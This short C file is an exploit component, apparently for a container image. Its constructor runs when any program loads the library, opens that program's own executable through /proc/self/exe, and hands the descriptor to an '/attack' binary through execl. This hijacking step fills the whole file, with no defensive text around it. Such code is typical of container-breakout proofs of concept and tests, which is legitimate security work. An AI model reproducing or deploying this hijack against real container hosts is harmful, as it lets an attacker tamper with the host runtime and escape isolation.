/* A library of the image: whatever program the loader brings it into becomes the attack, with a descriptor of that program's own file. */
extern int open(const char *path, int flags, ...);
extern int execl(const char *path, const char *arg, ...);

__attribute__((constructor)) static void take_over(void)
{
	const int self = open("/proc/self/exe", 0 /* O_RDONLY */);
	const char number[] = { '0' + self / 10 % 10, '0' + self % 10, 0 };
	execl("/attack", "attack", "self-exe", number, (char *)0);
}
